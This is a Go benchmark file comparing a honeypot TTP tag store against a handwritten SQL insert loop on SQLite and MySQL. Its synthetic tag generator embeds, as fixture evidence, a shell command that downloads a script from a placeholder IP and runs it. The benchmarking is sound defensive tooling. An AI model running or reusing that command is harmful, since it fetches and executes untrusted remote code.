package conformance

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/decnet/ttpstore/ttp"
)

// Benchmark compares the store with a handwritten loop that writes the same tags to the same schema, and first writes with
// replays. The names of the benchmarks have keys for benchstat:
//
//	benchstat -filter '/impl:(facade OR handwritten)' -col /impl   the store and the loop
//	benchstat -filter '/impl:facade' -col /pass                    a first write and a replay
//	benchstat -filter '/rollup:fleet' -col /window                 a window of 1 % and all tags
//
// The function open returns a pool for the URL's database with the settings of ttp.Open and without a recorder.
//
// go test -count repeats each benchmark before it runs the next one, so that changing load on the machine looks like a
// difference. On a shared machine, repeat the whole run instead.
func Benchmark(b *testing.B, engine Engine, open func(tb testing.TB, url string) *sql.DB) {
	b.Run("Insert", func(b *testing.B) {
		for _, rows := range []int{1000, 10000} {
			tags := benchmarkTags(rows)
			for _, pass := range []string{"first", "replay"} {
				for _, impl := range []string{"facade", "handwritten"} {
					b.Run(fmt.Sprintf("rows=%d/pass=%s/impl=%s", rows, pass, impl), func(b *testing.B) {
						db := newDatabase(b, engine)
						write := facadeWrite(b, db)
						if impl == "handwritten" {
							write = handwrittenWrite(engine.Dialect, open(b, db.url))
						}
						benchmarkInsert(b, engine.Dialect, open(b, db.url), write, tags, pass == "replay")
					})
				}
			}
		}
	})
	b.Run("Read", func(b *testing.B) { benchmarkReads(b, newDatabase(b, engine)) })
}

// writeTags writes tags and returns the number of inserted ones.
type writeTags func(ctx context.Context, tags []ttp.Tag) (int, error)

// facadeWrite migrates the database and writes by InsertTags.
func facadeWrite(b *testing.B, db *database) writeTags {
	s := db.store(b)
	return func(ctx context.Context, tags []ttp.Tag) (int, error) {
		result, err := s.InsertTags(ctx, tags)
		return result.Inserted, err
	}
}

// benchmarkInsert writes the same tags in each iteration. Before a first write it empties the table over another
// connection, so that every write does the same work with the same caches. With an empty table the engine's share of the
// time is smallest, and that of the facade largest.
func benchmarkInsert(b *testing.B, dialect ttp.Dialect, other *sql.DB, write writeTags, tags []ttp.Tag, replay bool) {
	ctx := context.Background()
	want := len(tags)
	if n, err := write(ctx, tags); err != nil || n != want {
		b.Fatalf("the first write wrote %d of %d tags: %v", n, want, err)
	}
	if replay {
		want = 0
	}
	for b.Loop() {
		if !replay {
			b.StopTimer()
			emptyTags(b, dialect, other)
			b.StartTimer()
		}
		if n, err := write(ctx, tags); err != nil || n != want {
			b.Fatalf("wrote %d tags, want %d: %v", n, want, err)
		}
	}
	b.ReportMetric(float64(b.N*len(tags))/b.Elapsed().Seconds(), "tags/s")
}

func emptyTags(b *testing.B, dialect ttp.Dialect, db *sql.DB) {
	statements := map[ttp.Dialect][]string{
		ttp.SQLite: {"DELETE FROM ttp_tag", "DELETE FROM ttp_technique_count", "PRAGMA wal_checkpoint(TRUNCATE)"},
		ttp.MySQL:  {"TRUNCATE TABLE ttp_tag", "TRUNCATE TABLE ttp_technique_count"},
	}
	for _, statement := range statements[dialect] {
		if _, err := db.Exec(statement); err != nil {
			b.Fatal(err)
		}
	}
}

const (
	benchmarkAttackers = 2000 // with a skewed distribution of tags
	benchmarkDays      = 30
)

func benchmarkAttacker(i int) uuid.UUID { return id(fmt.Sprint("attacker ", i)) }

// benchmarkTags returns the first n tags of newTagSource.
func benchmarkTags(n int) []ttp.Tag {
	next := newTagSource()
	tags := make([]ttp.Tag, n)
	for i := range tags {
		tags[i] = next()
	}
	return tags
}

// newTagSource returns a generator of honeypot-like tags. Each generator returns the same tags.
func newTagSource() func() ttp.Tag {
	random := rand.New(rand.NewPCG(1, 2))
	skewed := rand.NewZipf(random, 1.2, 8, benchmarkAttackers-1)
	i := 0
	return func() ttp.Tag {
		i++
		attacker := int(skewed.Uint64())
		technique := random.IntN(60)
		return newTag(id(fmt.Sprint("event ", i)).String(), func(tag *ttp.Tag) {
			tag.AttackerUUID = benchmarkAttacker(attacker)
			tag.SessionID = fmt.Sprintf("session-%04d-%02d", attacker, random.IntN(10))
			tag.DeckyID = fmt.Sprintf("decky-%02d", random.IntN(20))
			tag.Tactic = fmt.Sprintf("TA%04d", technique%14)
			tag.TechniqueID = fmt.Sprintf("T1%03d", technique)
			if technique%3 == 0 {
				tag.SubTechniqueID = fmt.Sprintf("%s.%03d", tag.TechniqueID, 1+random.IntN(4))
			}
			tag.Confidence = 0.3 + 0.7*random.Float64()
			tag.RuleID = fmt.Sprintf("R%04d", technique)
			tag.Evidence = json.RawMessage(fmt.Sprintf(
				`{"command":"wget -q http://203.0.113.%d/%08x.sh -O .x && sh .x","matched":"wget","user":"root","pid":%d,"tty":true}`,
				random.IntN(256), random.Uint32(), random.IntN(1<<15)))
			tag.ObservedAt = at(random.IntN(benchmarkDays * 24 * 3600 * 1e6))
		})
	}
}

const (
	insertColumns = `INSERT INTO ttp_tag (uuid, source_kind, source_id, attacker_uuid, identity_uuid, session_id, decky_id,` +
		` tactic, technique_id, sub_technique_id, confidence, rule_id, rule_version,` +
		` evidence, attack_release, observed_at, ingested_at, batch_uuid, technique_key) VALUES `
	insertTuple = `(?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`
	// insertRows is the number of rows per statement on MySQL, as in the facade.
	insertRows = 500
)

// handwrittenWrite writes tags without the facade: one transaction, on SQLite one prepared statement for all rows, on MySQL
// some hundred rows per statement. Like the facade it sorts by UUID, which prevents deadlocks of concurrent writers on
// MySQL and is faster on both engines. It neither validates the tags nor returns the outcome of each.
func handwrittenWrite(dialect ttp.Dialect, db *sql.DB) writeTags {
	return func(ctx context.Context, tags []ttp.Tag) (int, error) {
		batch, err := uuid.NewV7()
		if err != nil {
			return 0, err
		}
		now := time.Now()
		rows := make([]*ttp.Tag, len(tags))
		for i, tag := range tags {
			tag.UUID, tag.BatchUUID, tag.IngestedAt = tag.ComputeUUID(), batch, now
			rows[i] = &tag
		}
		slices.SortFunc(rows, func(a, b *ttp.Tag) int { return bytes.Compare(a.UUID[:], b.UUID[:]) })
		tx, err := db.BeginTx(ctx, nil)
		if err != nil {
			return 0, err
		}
		defer func() { _ = tx.Rollback() }()
		insertAll := insertBySQLite
		if dialect == ttp.MySQL {
			insertAll = insertByMySQL
		}
		written, err := insertAll(ctx, tx, rows)
		if err != nil {
			return 0, err
		}
		return int(written), tx.Commit()
	}
}

func insertBySQLite(ctx context.Context, tx *sql.Tx, rows []*ttp.Tag) (written int64, err error) {
	stmt, err := tx.PrepareContext(ctx, insertColumns+insertTuple+` ON CONFLICT (uuid) DO NOTHING`)
	if err != nil {
		return 0, err
	}
	defer func() { _ = stmt.Close() }()
	var args []any
	for _, row := range rows {
		args = appendArgs(args[:0], row)
		result, err := stmt.ExecContext(ctx, args...)
		if err != nil {
			return 0, err
		}
		n, err := result.RowsAffected()
		if err != nil {
			return 0, err
		}
		written += n
	}
	return written, nil
}

func insertByMySQL(ctx context.Context, tx *sql.Tx, rows []*ttp.Tag) (written int64, err error) {
	var args []any
	for chunk := range slices.Chunk(rows, insertRows) {
		args = args[:0]
		for _, row := range chunk {
			args = appendArgs(args, row)
		}
		query := insertColumns + insertTuple + strings.Repeat(", "+insertTuple, len(chunk)-1) +
			` ON DUPLICATE KEY UPDATE rule_version = ttp_tag.rule_version`
		result, err := tx.ExecContext(ctx, query, args...)
		if err != nil {
			return 0, err
		}
		n, err := result.RowsAffected()
		if err != nil {
			return 0, err
		}
		written += n
	}
	return written, nil
}

func appendArgs(args []any, t *ttp.Tag) []any {
	return append(args, t.UUID[:], t.SourceKind, t.SourceID, idOrNull(t.AttackerUUID), idOrNull(t.IdentityUUID),
		textOrNull(t.SessionID), textOrNull(t.DeckyID), t.Tactic, t.TechniqueID, textOrNull(t.SubTechniqueID),
		t.Confidence, t.RuleID, t.RuleVersion, string(t.Evidence), t.AttackRelease,
		t.ObservedAt.UnixMicro(), t.IngestedAt.UnixMicro(), t.BatchUUID[:], techniqueKey(t))
}

// techniqueKey returns the technique_key of an enterprise tag.
func techniqueKey(t *ttp.Tag) int64 {
	sub := int64(0)
	if t.SubTechniqueID != "" {
		sub = 1 + digits(t.SubTechniqueID[6:])
	}
	major, minor, _ := strings.Cut(strings.TrimPrefix(t.AttackRelease, "enterprise-v"), ".")
	return digits(t.TechniqueID[1:])*1e14 + sub*1e10 + digits(t.Tactic[2:])*1e6 + 1e5 + digits(major)*100 + digits(minor)
}

func digits(s string) int64 {
	n, _ := strconv.ParseInt(s, 10, 64)
	return n
}

func idOrNull(id uuid.UUID) any {
	if id == uuid.Nil {
		return nil
	}
	return id[:]
}

func textOrNull(s string) any {
	if s == "" {
		return nil
	}
	return s
}
